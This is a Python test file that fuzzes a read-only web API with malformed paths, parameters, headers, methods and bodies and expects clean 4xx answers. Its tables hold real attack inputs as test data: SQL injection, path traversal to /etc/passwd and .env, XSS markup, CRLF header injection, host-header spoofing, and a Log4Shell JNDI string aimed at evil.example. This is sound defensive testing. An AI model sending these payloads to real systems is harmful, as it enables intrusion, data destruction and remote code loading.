"""Whatever is sent, the answer is one of the contract's own: never a 500, never a wrong table.

The expected answers stand in the tables, so that both databases are held to the same. What single
parameters take is told in test_parameter_values.py, what cursors are in test_cursors.py.
"""

import io
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests.api.contract import DETAILS, LISTS, OPERATIONS
from tests.api.parameter_values import (
    ACCEPTED,
    MARKUP,
    PARAMETERS,
    REFUSED,
    accepted_by,
    choices_of,
)
from tests.api.wire import ask, check, some_target, status_of
from tests.thoroughness import examples

ROUNDS = "/api/v1/rounds"
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("one_of_each")]


# Names of parameters, at every address ------------------------------------------------------------
# The query string, and the name under which the answer speaks of it.
UNKNOWN_NAMES = [
    ("bogus=1", "bogus"),
    ("=x", ""),
    ("%00=1", "?"),
    ("a%0D%0Ab=1", "a??b"),
    ("%ED%A0%80=1", "???"),
    ("%C0%AE=1", "??"),
    ("%FF=1", "?"),
    ("party[]=x", "party[]"),
    ("a[]=", "a[]"),
    ("a[b]=1", "a[b]"),
    ("party__slug__startswith=x", "party__slug__startswith"),
    ("publication_status=draft", "publication_status"),
    ("publication_status__in=draft", "publication_status__in"),
    ("__=1", "__"),
    ("__class__=1", "__class__"),
    ("slug__regex=(a%2B)%2B%24", "slug__regex"),
    ("_connector=OR%201=1", "_connector"),
    ("PAGE_SIZE=1", "PAGE_SIZE"),
    ("page_size%20=1", "page_size "),
    ("page_size;count=1", "page_size;count"),
    ("limit=1", "limit"),
    ("format=json", "format"),
    ("%25s=1", "%s"),
    ("%25(value)s=1", "%(value)s"),
    ("%=1", "%"),
    ("{0}=1", "{0}"),
    ("{0.__class__}", "{0.__class__}"),
    ("';DROP TABLE relations_round;--=1", "';DROP TABLE relations_round;--"),
    (f"{MARKUP}=1", "<script>alert(1)</script>"),
    ("%D9%A1=%D9%A1", "١"),
    (f"{'n' * 600}=1", "n" * 500),
]


def dealt_out(values):
    """Each operation with one of the values, and with the first of them."""
    for number, (path, operation) in enumerate(OPERATIONS.values()):
        for value in (values[0], values[number % len(values)]):
            yield path, operation, value


def test_unknown_name_is_refused_at_every_address():
    for path, operation, (query, name) in dealt_out(UNKNOWN_NAMES):
        problem = check(ask(some_target(path, query)), 400)
        assert problem["type"] == "/problems#invalid-parameter"
        (error,) = problem["errors"]
        assert (error["parameter"], error["code"]) == (name, "unknown")
        known = [item["name"] for item in operation["parameters"] if item["in"] == "query"]
        assert sorted(error["allowed"]) == sorted(known)


@pytest.mark.slow
def test_query_without_a_name_is_no_query():
    for path, _, query in dealt_out(["&", "&" * 4000, "&&"]):
        check(ask(some_target(path, query)), status_of(path))


def test_each_of_several_wrong_parameters_is_named():
    problem = check(ask(f"{ROUNDS}?bogus=1&page_size=&status=held&place=%00&page=2"), 400)
    named = [(error["parameter"], error["code"]) for error in problem["errors"]]
    assert named == [
        ("bogus", "unknown"),
        ("page_size", "empty"),
        ("place", "unprintable"),
        ("page", "unknown"),
    ]


# How much of it -----------------------------------------------------------------------------------
@pytest.mark.slow
def test_twenty_wrong_parameters_are_named_and_no_more():
    """Else a short query is answered with half a megabyte."""
    for path, _ in OPERATIONS.values():
        query = "&".join(f"{number:x}" for number in range(1000))
        problem = check(ask(some_target(path, query)), 400)
        assert [error["parameter"] for error in problem["errors"]] == [
            f"{number:x}" for number in range(20)
        ]


@pytest.mark.parametrize("query", ["p&" * 2048, "&".join(["page_size=1"] * 340)])
def test_repetition_counts_as_one_wrong_parameter(query):
    problem = check(ask(f"{ROUNDS}?{query}"), 400)
    assert len(problem["errors"]) == 1


@pytest.mark.slow
@pytest.mark.parametrize(
    ("length", "status"), [(4095, 400), (4096, 400), (4097, 414), (65536, 414)]
)
def test_query_string_is_cut_off_at_4096_bytes(length, status):
    for path, _ in OPERATIONS.values():
        check(ask(f"{path.replace('{slug}', 'x')}?x={'y' * (length - 2)}"), status)


def test_forty_thousand_values_are_too_long():
    check(ask(f"{ROUNDS}?{'&'.join(['page_size=1'] * 40_000)}"), 414)


# Paths --------------------------------------------------------------------------------------------
PATHS = [
    ("%00", 404),
    ("%0A", 404),
    ("a-rounds%00", 404),
    ("a-rounds%0A", 404),
    ("a-rounds%0D%0ASet-Cookie:x=1", 404),
    ("%FF", 404),
    ("%C0%AF", 404),
    ("%C0%AE%C0%AE/", 308),
    ("%ED%A0%80", 404),
    ("%D9%A1", 404),
    ("%EF%BC%A1", 404),
    ("A-ROUNDS", 404),
    ("a_rounds", 404),
    ("a-rounds.json", 404),
    ("a-rounds.", 404),
    ("a-rounds;v=1", 404),
    ("a-rounds%20", 404),
    ("a-rounds%3F", 404),
    ("a-rounds%2F", 308),
    ("a-rounds/", 308),
    ("a-rounds//", 308),
    ("a-rounds/citations", 404),
    ("1", 404),
    ("-1", 404),
    ("9" * 25, 404),
    ("1e400", 404),
    ("x" * 200, 404),
    ("x" * 201, 404),
    ("x" * 60_000, 404),
    ("../../../etc/passwd", 404),
    ("..%2F..%2F..%2Fetc%2Fpasswd", 404),
    ("%2e%2e%2f%2e%2e%2f", 308),
    ("..%5C..%5C", 404),
    (MARKUP, 404),
    ("%25s%25(x)s{0}", 404),
    ("' OR 1=1--", 404),
    ("%%", 404),
    ("%", 404),
    ("%zz", 404),
]


def test_no_path_but_a_slug_finds_an_entry(subtests):
    for tail, status in PATHS:
        with subtests.test(tail=tail[:80]):
            check(ask(f"{ROUNDS}/{tail}".encode("latin-1")), status)


def test_no_path_but_a_slug_finds_an_entry_of_any_noun():
    found = {}
    for path in DETAILS.values():
        target = some_target(path)
        assert ask(target).status == 200
        found |= {(target, tail): ask(target + tail).status for tail in ("%0A", ".json", "%20")}
    assert found == dict.fromkeys(found, 404)


UNKNOWN_ADDRESSES = [
    "//api/v1/rounds",
    "/api//v1/rounds",
    "/api/v1//rounds",
    "/api/v1/rounds;page_size=1",
    "/api/v1/rounds%00",
    "/api/v1/rounds%0A",
    "/api/v1/ROUNDS",
    "/API/v1/rounds",
    "/api/v1/rounds.json",
    "/api/v1/rounds.csv%00",
    "/api/v1/./rounds",
    "/api/v1/../v1/rounds",
    "/api/v2/rounds",
    "/api/v1/nothing",
    "/api",
    "/api/",
    "//evil.example/",
    "/%2Fevil.example",
    "/" + "a/" * 5000,
    f"/{MARKUP}",
    "/%FF",
    "/static/../api/settings.py",
    "/static/..%2f..%2fapi/settings.py",
    "/static/%00",
    "/static/api",
    "/static/" + "x" * 5000,
    "/var/secret_key",
    "/.env",
    "/.git/config",
    "/index.php?s=/x",
    "*",
    "http://evil.example/api/v1/rounds",
]


def test_no_other_address_exists(subtests):
    for target in UNKNOWN_ADDRESSES:
        with subtests.test(target=target[:80]):
            check(ask(target), 404)
    check(ask(""), 200)


# Headers ------------------------------------------------------------------------------------------
BROKEN_PARAMETER = "a*0=x; a*2=y; a*=z''q"  # the standard library raises TypeError
HEADERS = [
    ("HTTP_ACCEPT", "*/*", 200),
    ("HTTP_ACCEPT", "application/*", 200),
    ("HTTP_ACCEPT", "application/json", 200),
    ("HTTP_ACCEPT", "APPLICATION/JSON", 200),
    ("HTTP_ACCEPT", "text/xml, */*;q=0.1", 200),
    ("HTTP_ACCEPT", "application/json; indent=99999999999", 200),
    ("HTTP_ACCEPT", "application/json; indent=%s", 200),
    ("HTTP_ACCEPT", "application/json, " * 600, 200),
    ("HTTP_ACCEPT", "", 406),
    ("HTTP_ACCEPT", "*", 406),
    ("HTTP_ACCEPT", "text/xml", 406),
    ("HTTP_ACCEPT", "text/html", 406),
    ("HTTP_ACCEPT", "application/problem+json", 200),
    ("HTTP_ACCEPT", "garbage", 406),
    ("HTTP_ACCEPT", ";;;", 406),
    ("HTTP_ACCEPT", "/", 406),
    ("HTTP_ACCEPT", ",,,", 406),
    ("HTTP_ACCEPT", "\xff\xfe\x00", 406),
    ("HTTP_ACCEPT", "<script>alert(1)</script>", 406),
    ("HTTP_ACCEPT", "%s%(x)s{0}", 406),
    ("HTTP_ACCEPT", "x" * 10_240, 406),
    ("HTTP_ACCEPT", "a/b," * 2560, 406),
    ("HTTP_ACCEPT", f"text/html; {BROKEN_PARAMETER}", 406),
    ("HTTP_ACCEPT", f"application/json; {BROKEN_PARAMETER}", 406),
    ("HTTP_ACCEPT", "application/json; a*=nonsense''x", 406),
    ("HTTP_ACCEPT", "application/json; a*=idna''%ff", 406),
    ("CONTENT_TYPE", "text/html; charset=nonsense", 200),
    ("CONTENT_TYPE", "text/html; a*=nonsense''x", 200),
    ("CONTENT_TYPE", "text/html; a*=idna''%ff", 200),
    ("CONTENT_TYPE", f"text/html; {BROKEN_PARAMETER}", 200),
    ("CONTENT_TYPE", "multipart/form-data", 200),
    ("CONTENT_TYPE", "\xff\x00", 200),
    ("CONTENT_LENGTH", "-5", 200),
    ("CONTENT_LENGTH", "9" * 25, 200),
    ("CONTENT_LENGTH", "abc", 200),
    ("HTTP_HOST", "localhost", 200),
    ("HTTP_HOST", "LOCALHOST", 200),
    ("HTTP_HOST", "localhost.", 200),
    ("HTTP_HOST", "[::1]:8000", 200),
    ("HTTP_HOST", "evil.example", 400),
    ("HTTP_HOST", "localhost.evil.example", 400),
    ("HTTP_HOST", "localhost, evil.example", 400),
    ("HTTP_HOST", "localhost:port", 400),
    ("HTTP_HOST", "user@localhost", 400),
    ("HTTP_HOST", "[::1", 400),
    ("HTTP_HOST", "<script>alert(1)</script>", 400),
    ("HTTP_HOST", "%s%(x)s{0}", 400),
    ("HTTP_HOST", "localhost\x00", 400),
    ("HTTP_HOST", "\xff", 400),
    ("HTTP_HOST", "a" * 5000, 400),
    ("HTTP_HOST", "", 400),
    ("HTTP_X_FORWARDED_HOST", "evil.example", 200),
    ("HTTP_X_FORWARDED_PROTO", "javascript", 200),
    ("HTTP_X_FORWARDED_FOR", "\x00" * 500, 200),
    ("HTTP_X_HTTP_METHOD_OVERRIDE", "DELETE", 200),
    ("HTTP_IF_NONE_MATCH", "garbage", 200),
    ("HTTP_IF_NONE_MATCH", '"', 200),
    ("HTTP_IF_NONE_MATCH", 'W/"', 200),
    ("HTTP_IF_NONE_MATCH", "\xff\x00", 200),
    ("HTTP_IF_NONE_MATCH", '"x",' * 5000, 200),
    ("HTTP_IF_NONE_MATCH", "*", 304),
    ("HTTP_IF_MATCH", "*", 200),
    ("HTTP_IF_MATCH", "garbage", 200),
    ("HTTP_IF_MATCH", '"x"', 412),
    ("HTTP_IF_UNMODIFIED_SINCE", "Mon, 01 Jan 1990 00:00:00 GMT", 412),
    ("HTTP_IF_UNMODIFIED_SINCE", "Mon, 99 Jan 99999 00:00:00 GMT", 200),
    ("HTTP_IF_MODIFIED_SINCE", "Mon, 01 Jan 0000 00:00:00 GMT", 200),
    ("HTTP_IF_MODIFIED_SINCE", "9" * 5000, 200),
    ("HTTP_RANGE", "bytes=0-0,1-1," * 500, 200),
    ("HTTP_ORIGIN", "http://[", 200),
    ("HTTP_ORIGIN", "<script>alert(1)</script>\xff", 200),
    ("HTTP_COOKIE", "sessionid=\xff\x00; csrftoken=" + "x" * 5000, 200),
    ("HTTP_AUTHORIZATION", "Basic \xff", 200),
    ("HTTP_USER_AGENT", "${jndi:ldap://evil.example/x}\xff\x00", 200),
    ("HTTP_TRANSFER_ENCODING", "chunked, chunked", 200),
    ("HTTP_EXPECT", "200-ok", 200),
    ("HTTP_X_" + "Y" * 500, "z" * 5000, 200),
]


@pytest.mark.slow
@pytest.mark.parametrize("operation_id", ["listRounds", "getRound"])
def test_header_never_breaks_an_answer(operation_id, subtests):
    target = some_target(OPERATIONS[operation_id][0])
    for name, value, status in HEADERS:
        with subtests.test(header=name[:40], value=value[:80]):
            answer = ask(target, **{name: value})
            check(answer, status)
            assert b"evil.example" not in answer.body


# Methods ------------------------------------------------------------------------------------------
METHODS = ["POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "OPTIONS", "PROPFIND", "BREW"]
METHODS += ["", "G\x00ET", "<script>alert(1)</script>", "\xff", "X" * 5000]
BODIES = [b"", b'{"a":', b"[" * 100_000, b"\xff\x00", b"a=1&" * 10_000]


@pytest.mark.parametrize("method", METHODS)
def test_no_method_but_get_and_head_is_allowed(method):
    others = ["/", "/problems", "/api/v1", "/api/v1/openapi.yaml", "/static/api/site.css", "/no"]
    for path in [*LISTS.values(), *DETAILS.values(), *others]:
        answer = ask(path.replace("{slug}", "x"), method=method, body=b'{"a":')
        check(answer, 405)
        assert answer.headers["Allow"] == "GET, HEAD"


@pytest.mark.parametrize("body", BODIES)
def test_body_is_never_read(body):
    for content_type in ("application/json", "application/x-www-form-urlencoded", "text/plain"):
        for method, status in (("POST", 405), ("DELETE", 405), ("GET", 200), ("HEAD", 200)):
            sent = io.BytesIO(body)
            unread = {"wsgi.input": sent, "CONTENT_TYPE": content_type}
            check(ask(ROUNDS, method=method, body=body, **unread), status)
            assert sent.tell() == 0


# Anything at all ----------------------------------------------------------------------------------
TARGETS = st.sampled_from([path for path, _ in OPERATIONS.values()])
NAMES = st.sampled_from(sorted({parameter["name"] for _, parameter in PARAMETERS}))
VALUES = {value for values in [*REFUSED.values(), *ACCEPTED.values()] for value in values}
CHOICES = {value for _, parameter in PARAMETERS for value in choices_of(parameter)}
TEXTS = st.text(max_size=30).map(lambda text: quote(text.encode("utf-8", "surrogatepass")))
BYTES = st.binary(max_size=30).map(quote)
SENT = st.sampled_from(sorted(VALUES | CHOICES)) | TEXTS | BYTES
PAIRS = st.tuples(NAMES | TEXTS, SENT).map("=".join)
SLUGS = st.sampled_from(["a-rounds", "a-parties", "x"]) | TEXTS | BYTES
# Parameters that the address has, with values that they mostly take, reach further in.
MEANT = st.sampled_from(PARAMETERS).flatmap(
    lambda each: st.tuples(
        st.just(each[0]),
        st.lists(
            st.sampled_from([p for path, p in PARAMETERS if path == each[0]]).flatmap(
                lambda parameter: st.sampled_from(
                    [f"{parameter['name']}={value}" for value in accepted_by(parameter) or ["x"]]
                )
            ),
            max_size=6,
        ),
    )
)
QUICK = hypothesis_settings(
    max_examples=examples(40), deadline=None, derandomize=True, database=None
)


@pytest.mark.slow
@QUICK
@given(path=TARGETS, slug=SLUGS, pairs=st.lists(PAIRS, max_size=5))
def test_no_request_is_answered_with_a_failure(path, slug, pairs):
    answer = ask(f"{path.replace('{slug}', slug)}?{'&'.join(pairs)}")
    assert answer.status < 500
    check(answer, answer.status)


@pytest.mark.slow
@QUICK
@given(asked=MEANT)
def test_no_combination_of_parameters_is_answered_with_a_failure(asked):
    path, pairs = asked
    answer = ask(some_target(path, "&".join(pairs)))
    assert answer.status in (200, 400, 404, 414)
    check(answer, answer.status)
